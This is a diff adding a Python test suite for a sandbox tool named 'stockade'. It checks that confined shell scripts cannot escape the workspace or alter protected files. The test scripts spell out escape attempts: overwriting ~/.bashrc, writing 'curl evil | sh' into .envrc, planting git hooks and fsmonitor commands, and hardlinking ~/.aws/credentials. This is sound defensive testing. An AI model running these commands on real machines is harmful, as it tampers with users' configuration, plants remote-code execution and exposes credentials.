@@ -1,0 +1,245 @@
+"""Filesystem boundary: writes leave the workspace only where stockade says they may.
+
+Each attack runs inside a real sandbox; the verdict is read from the host.
+The outside targets belong to the runner, so without the sandbox every one
+of these writes would succeed -- `test_control_same_attacks_succeed_unconfined`
+proves that by running the identical script with no boundary.
+"""
+
+from __future__ import annotations
+
+import os
+import secrets
+from pathlib import Path
+
+import pytest
+
+from .conftest import SH_TRY, Box, attempts, snapshot, text
+
+pytestmark = pytest.mark.isolation
+
+# $1: a path in host /tmp that exists there; $2: one that does not.
+ESCAPE_SCRIPT = SH_TRY + r"""
+try bashrc-overwrite sh -c 'echo PWNED > "$HOME/.bashrc"'
+try bashrc-append    sh -c 'echo PWNED >> "$HOME/.bashrc"'
+try home-new-file    sh -c 'echo PWNED > "$HOME/.profile"'
+try home-mkdir       mkdir "$HOME/.config/autostart"
+try sibling-write    sh -c 'echo PWNED > ../sibling/notes.txt'
+try sibling-new      sh -c 'echo PWNED > ../sibling/new.txt'
+try sibling-rm       rm -f ../sibling/notes.txt
+try sibling-chmod    chmod 777 ../sibling/notes.txt
+try parent-new       sh -c 'echo PWNED > ../planted.txt'
+try abs-sibling      sh -c 'echo PWNED > "$(dirname "$PWD")/sibling/abs.txt"'
+try proc-root        sh -c 'echo PWNED > "/proc/self/root$HOME/.bashrc"'
+# host /tmp: the sandbox has its own, so these may succeed *inside*; the host must not see them.
+echo PWNED > "$1" 2>/dev/null
+echo PWNED > "$2" 2>/dev/null
+echo in-workspace > ok.txt
+"""
+BLOCKED = ("bashrc-overwrite", "bashrc-append", "home-new-file", "home-mkdir", "sibling-write",
+           "sibling-new", "sibling-rm", "sibling-chmod", "parent-new", "abs-sibling",
+           "proc-root")
+
+
+def _host_tmp_targets(box: Box) -> tuple[Path, Path]:
+    tag = secrets.token_hex(6)
+    existing = Path(f"/tmp/stockade-iso-existing-{tag}")
+    box.write(existing, "host tmp original\n")
+    return existing, Path(f"/tmp/stockade-iso-new-{tag}")
+
+
+def test_writes_outside_workspace_leave_host_unchanged(box: Box) -> None:
+    existing, fresh = _host_tmp_targets(box)
+    try:
+        home0, sib0 = snapshot(box.home), snapshot(box.sibling)
+        parent0 = sorted(os.listdir(box.root))
+        res = box.sh(ESCAPE_SCRIPT, str(existing), str(fresh), mode="workspace-write")
+        out = text(res)
+        assert res.returncode == 0, out
+        # The sandbox really ran and really could write where it may.
+        assert (box.ws / "ok.txt").read_text() == "in-workspace\n", out
+        tried = attempts(res)
+        assert {n for n in BLOCKED if tried.get(n) is not False} == set(), out
+        assert snapshot(box.home) == home0
+        assert snapshot(box.sibling) == sib0
+        assert sorted(os.listdir(box.root)) == parent0
+        assert existing.read_text() == "host tmp original\n"
+        assert not fresh.exists()
+    finally:
+        existing.unlink(missing_ok=True)
+        fresh.unlink(missing_ok=True)
+
+
+def test_control_same_attacks_succeed_unconfined(box: Box) -> None:
+    """Without a boundary (full-access) the script does write: the test above can fail."""
+    existing, fresh = _host_tmp_targets(box)
+    try:
+        res = box.sh(ESCAPE_SCRIPT, str(existing), str(fresh), mode="full-access")
+        out = text(res)
+        tried = attempts(res)
+        assert tried["bashrc-overwrite"] and tried["sibling-new"], out
+        assert "PWNED" in (box.home / ".bashrc").read_text()
+        assert (box.sibling / "new.txt").exists()
+        assert existing.read_text() == "PWNED\n"
+        assert fresh.exists()
+    finally:
+        existing.unlink(missing_ok=True)
+        fresh.unlink(missing_ok=True)
+
+
+def test_symlink_out_of_workspace_does_not_write_through(box: Box) -> None:
+    os.symlink(box.home / ".bashrc", box.ws / "to-bashrc")
+    os.symlink("../sibling/notes.txt", box.ws / "to-notes")
+    os.symlink(box.sibling, box.ws / "to-sibling-dir")
+    for name in ("to-bashrc", "to-notes", "to-sibling-dir"):
+        box.runner.own(box.ws / name)
+    home0, sib0 = snapshot(box.home), snapshot(box.sibling)
+    script = r"""
+for t in to-bashrc to-notes; do
+  if echo PWNED > "$t"; then echo "WROTE $t"; fi
+  if echo PWNED >> "$t"; then echo "WROTE+ $t"; fi
+done
+if echo PWNED > to-sibling-dir/new.txt; then echo "WROTE dir"; fi
+# A link made inside the sandbox, then written through.
+ln -s "$HOME/.bashrc" made-inside && { if echo PWNED > made-inside; then echo "WROTE made"; fi; }
+ln -s ../sibling made-dir && { if echo PWNED > made-dir/new2.txt; then echo "WROTE made-dir"; fi; }
+cat to-bashrc
+"""
+    res = box.sh(script, mode="workspace-write")
+    out = text(res)
+    assert "WROTE" not in out, out
+    # The link did lead somewhere real: reading through it works, writing does not.
+    assert box.markers[".bashrc"] in out, out
+    assert snapshot(box.home) == home0
+    assert snapshot(box.sibling) == sib0
+
+
+def test_hardlink_to_outside_file_fails(box: Box) -> None:
+    home0, sib0 = snapshot(box.home), snapshot(box.sibling)
+    script = r"""
+ln ../sibling/notes.txt hl-notes 2>&1 && echo "LINKED notes"
+ln "$HOME/.bashrc" hl-bashrc 2>&1 && echo "LINKED bashrc"
+ln "$HOME/.aws/credentials" hl-aws 2>&1 && echo "LINKED aws"
+echo PWNED >> hl-notes 2>/dev/null
+true
+"""
+    res = box.sh(script, mode="workspace-write")
+    out = text(res)
+    assert "LINKED" not in out, out
+    assert snapshot(box.home) == home0, "a link count or file under HOME changed"
+    assert snapshot(box.sibling) == sib0
+    assert (box.sibling / "notes.txt").stat().st_nlink == 1
+    for name in ("hl-notes", "hl-bashrc", "hl-aws"):
+        p = box.ws / name
+        # hl-notes may exist as a new, unrelated file from the `>>`; never as a link.
+        assert not p.exists() or p.stat().st_ino != (box.sibling / "notes.txt").stat().st_ino
+
+
+# -- protected metadata in workspace-write -----------------------------------------------
+
+PROTECTED_ATTACKS = SH_TRY + r"""
+try stockade-dir   sh -c 'mkdir -p .stockade && echo x > .stockade/policy.toml'
+try stockade-rm    sh -c 'rm -rf .stockade; mkdir .stockade && echo x > .stockade/p'
+try envrc          sh -c 'echo "curl evil | sh" > .envrc'
+try envrc-rm       sh -c 'rm -f .envrc && echo "curl evil | sh" > .envrc'
+try envrc-mv       sh -c 'echo "curl evil | sh" > e && mv -f e .envrc'
+try stockade-toml  sh -c 'printf "[sandbox]\nmode = \"full-access\"\n" > stockade.toml'
+try toml-mv        sh -c 'echo x > t && mv -f t stockade.toml'
+try vscode         sh -c 'mkdir -p .vscode && echo "{}" > .vscode/settings.json'
+try vscode-mv      sh -c 'mkdir v && echo "{}" > v/tasks.json && mv -T v .vscode'
+try claude         sh -c 'mkdir -p .claude && echo x > .claude/settings.json'
+try git-hook       sh -c 'mkdir -p .git/hooks && echo "touch /tmp/x" > .git/hooks/pre-commit'
+try git-config     sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/x\n" >> .git/config'
+"""
+PROTECTED_NAMES_CHECKED = ("stockade-dir", "stockade-rm", "envrc", "envrc-rm", "envrc-mv",
+                           "stockade-toml", "toml-mv", "vscode", "vscode-mv", "claude",
+                           "git-hook", "git-config")
+
+
+def test_protected_names_cannot_be_created_and_stubs_vanish(box: Box) -> None:
+    box.write(box.ws / "main.py", "print('hi')\n")
+    before = sorted(os.listdir(box.ws))
+    res = box.sh(PROTECTED_ATTACKS, mode="workspace-write")
+    out = text(res)
+    tried = attempts(res)
+    assert {n for n in PROTECTED_NAMES_CHECKED if tried.get(n) is not False} == set(), out
+    after = sorted(os.listdir(box.ws))
+    # Scratch files the script made are fine; no protected name may be left on
+    # the host -- neither a planted one nor stockade's own placeholder.
+    leftovers = {".stockade", ".envrc", "stockade.toml", ".vscode", ".claude", ".git", ".codex",
+                 ".agents", ".idea"} & set(after)
+    assert not leftovers, f"left on the host: {sorted(leftovers)}; before {before}, after {after}"
+
+
+def test_benign_run_leaves_no_placeholders(box: Box) -> None:
+    box.write(box.ws / "main.py", "print('hi')\n")
+    before = sorted(os.listdir(box.ws))
+    res = box.sh("ls -a", mode="workspace-write")
+    assert res.returncode == 0, text(res)
+    # Inside, the placeholders were there (that is how the names stay uncreatable) ...
+    assert ".envrc" in res.stdout.decode()
+    # ... and afterwards the host has exactly what it had.
+    assert sorted(os.listdir(box.ws)) == before
+
+
+def test_existing_protected_files_stay_unchanged(box: Box) -> None:
+    box.write(box.ws / "stockade.toml", '[sandbox]\nmode = "read-only"\n')
+    box.write(box.ws / ".envrc", "export SAFE=1\n")
+    box.mkdir("ws/.vscode")
+    box.write(box.ws / ".vscode" / "settings.json", "{}\n")
+    guarded = {p: snapshot(box.ws / p) if (box.ws / p).is_dir() else (box.ws / p).read_bytes()
+               for p in ("stockade.toml", ".envrc", ".vscode")}
+    res = box.sh(PROTECTED_ATTACKS, mode="workspace-write")
+    out = text(res)
+    tried = attempts(res)
+    names = ("envrc", "envrc-rm", "envrc-mv", "stockade-toml", "toml-mv", "vscode", "vscode-mv")
+    assert {n for n in names if tried.get(n) is not False} == set(), out
+    for p, was in guarded.items():
+        now = snapshot(box.ws / p) if (box.ws / p).is_dir() else (box.ws / p).read_bytes()
+        assert now == was, p
+
+
+# -- read-only mode ----------------------------------------------------------------------
+
+RO_SCRIPT = SH_TRY + r"""
+try create   sh -c 'echo x > new.txt'
+try append   sh -c 'echo x >> a.txt'
+try truncate sh -c ': > a.txt'
+try delete   rm a.txt
+try chmod    chmod 777 a.txt
+try rename   mv a.txt b.txt
+try mkdir    mkdir newdir
+try rmdir    sh -c 'rm -f d/f && rmdir d'
+try touch    touch a.txt
+try symlink  ln -s a.txt link
+try subfile  sh -c 'echo x > d/f'
+"""
+RO_OPS = ("create", "append", "truncate", "delete", "chmod", "rename", "mkdir", "rmdir",
+          "touch", "symlink", "subfile")
+
+
+def _ro_workspace(box: Box) -> None:
+    box.write(box.ws / "a.txt", "original\n")
+    box.mkdir("ws/d")
+    box.write(box.ws / "d" / "f", "inner\n")
+
+
+def test_read_only_default_blocks_every_write(box: Box) -> None:
+    _ro_workspace(box)
+    before = snapshot(box.ws)
+    res = box.sh(RO_SCRIPT)  # no --mode: the default must be read-only
+    out = text(res)
+    tried = attempts(res)
+    assert {n for n in RO_OPS if tried.get(n) is not False} == set(), out
+    assert snapshot(box.ws) == before
+
+
+def test_control_workspace_write_does_change_workspace(box: Box) -> None:
+    """The read-only script is a real attack: with write access it changes the tree."""
+    _ro_workspace(box)
+    before = snapshot(box.ws)
+    res = box.sh(RO_SCRIPT, mode="workspace-write")
+    out = text(res)
+    tried = attempts(res)
+    assert tried["create"] and tried["mkdir"], out
+    assert snapshot(box.ws) != before
